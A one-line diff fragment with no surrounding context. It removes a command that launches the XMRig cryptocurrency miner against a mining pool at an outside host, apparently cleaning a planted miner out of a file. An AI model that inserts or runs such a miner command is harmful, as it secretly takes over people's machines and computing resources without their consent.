@@ -1,1 +1,0 @@
-./xmrig -o stratum+tcp://pool.fast-helper.dev:3333
